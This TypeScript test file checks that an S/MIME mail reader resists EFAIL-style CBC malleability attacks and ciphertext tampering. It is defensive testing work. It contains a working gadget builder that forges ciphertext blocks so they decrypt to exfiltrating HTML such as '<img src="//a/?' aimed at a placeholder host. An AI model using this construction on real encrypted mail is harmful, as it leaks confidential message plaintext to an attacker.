import { afterAll, describe, expect, it } from 'vitest'
import { type Bytes, concat, utf8 } from '#shared/bytes.ts'
import { encryptContent, newContentKey } from '#shared/cms/content-encryption.ts'
import { encryptContentKey } from '#shared/cms/encrypt-content-key.ts'
import { encodeEnvelopedData } from '#shared/cms/enveloped-data.ts'
import type { OpenedMessage } from '#shared/smime/opened-message.ts'
import { envelopeTo } from '#test/support/envelopes.ts'
import { mailAround } from '#test/support/mail-around.ts'
import { CORRESPONDENTS, OpensslPki } from '#test/support/openssl-pki.ts'
import { openAs, textOf } from '#test/support/reading.ts'

const pki = new OpensslPki(CORRESPONDENTS)
afterAll(() => pki.remove())

const alice = pki.key('alice')
const read = (bytes: Bytes) => openAs(bytes, [alice], [pki.ca])

// EFAIL (USENIX Security 2018), §4: with one known block of plaintext, CBC lets an attacker write any others.

const BLOCK = 16
const HEAD = 'Content-Type: text/html\r\nX-Padding: 0123\r\n\r\n' // whole blocks, so that the gadgets follow
const SECRET = utf8(`${HEAD.padEnd(48)}The secret plan, which Eve cannot read.\r\n`)

/** What decrypts to `wanted`, behind one block of noise: two blocks, from the known first one. */
function gadget(iv: Bytes, first: Bytes, wanted: string): Bytes {
  const known = SECRET.subarray(0, BLOCK)
  const chosen = utf8(wanted.padEnd(BLOCK).slice(0, BLOCK))
  return concat(
    iv.map((octet, at) => octet ^ known[at]! ^ chosen[at]!),
    first,
  )
}

type Attack = (cbc: { iv: Bytes; ciphertext: Bytes }) => { iv: Bytes; ciphertext: Bytes }

async function attacked(attack: Attack): Promise<OpenedMessage> {
  const key = newContentKey('aes-256-cbc')
  const recipients = [await encryptContentKey(alice.certificate, key, 'rsa-pkcs1')]
  const encrypted = await encryptContent('aes-256-cbc', key, SECRET)
  if (encrypted.kind !== 'enveloped') throw new TypeError('CBC came out authenticated')
  const { encryption, ciphertext } = encrypted
  const changed = attack({ iv: encryption.iv, ciphertext })
  const object = encodeEnvelopedData({
    recipients,
    encryption: { ...encryption, iv: changed.iv },
    ciphertext: changed.ciphertext,
  })
  return read(mailAround(object, 'enveloped-data'))
}

describe('CBC gadgets', () => {
  it('show nothing where they stand for the message’s own start', async () => {
    const message = await attacked(({ iv, ciphertext }) => {
      const first = ciphertext.subarray(0, BLOCK)
      const tag = gadget(iv, first, '<img src="//a/?')
      return { iv, ciphertext: concat(tag, tag, ciphertext) }
    })
    expect(message).toMatchObject({ encryption: { kind: 'damaged' }, body: [], attachments: [] })
  })

  it('show nothing where the first block itself was rewritten, however innocent it looks', async () => {
    const message = await attacked(({ iv, ciphertext }) => {
      const known = SECRET.subarray(0, BLOCK)
      const wanted = utf8('<img src="//a/?x')
      return { iv: iv.map((octet, at) => octet ^ known[at]! ^ wanted[at]!), ciphertext }
    })
    expect(message.encryption).toMatchObject({ kind: 'decrypted', integrity: 'none' })
    expect(message.body.every(({ kind }) => kind === 'text')).toBe(true)
  })

  it('never come out as proved behind a true start: the reader is told that nothing was', async () => {
    const message = await attacked(({ iv, ciphertext }) => {
      const start = ciphertext.subarray(0, 3 * BLOCK)
      const tags = ['<img alt="', '" src="//a/?'].map((tag) =>
        gadget(iv, start.subarray(0, BLOCK), tag),
      )
      return { iv, ciphertext: concat(start, ...tags, ciphertext.subarray(3 * BLOCK)) }
    })
    expect(message.encryption).toMatchObject({ kind: 'decrypted', integrity: 'none' })
    expect(message.signature).toEqual({ kind: 'none' })
    expect(message.body).toHaveLength(1) // framed alone and without the network: test/e2e/efail.spec.ts
    expect(textOf(message)).toContain('" src="//a/?')
  })
})

describe('a changed ciphertext', () => {
  it('shows nothing when an octet of an authenticated content differs', async () => {
    const object = await envelopeTo([alice.certificate], SECRET, 'aes-256-gcm')
    for (const back of [1, 17, 40]) {
      const changed = object.slice()
      changed[changed.length - back]! ^= 1
      const message = await read(mailAround(changed, 'authEnveloped-data'))
      expect(message.encryption.kind).toBe('damaged')
      expect(message).toMatchObject({ body: [], attachments: [] })
    }
  })

  it('shows nothing when the padding or the start of a CBC content is gone', async () => {
    const object = await envelopeTo([alice.certificate], SECRET)
    const padding = object.slice()
    padding[padding.length - 17]! ^= 0xff
    const start = object.slice()
    start[start.length - 60]! ^= 0x80
    for (const changed of [padding, object.subarray(0, -16), start]) {
      const message = await read(mailAround(changed, 'enveloped-data'))
      expect(message.encryption.kind).toBe('damaged')
      expect(message).toMatchObject({ body: [], attachments: [] })
    }
  })
})
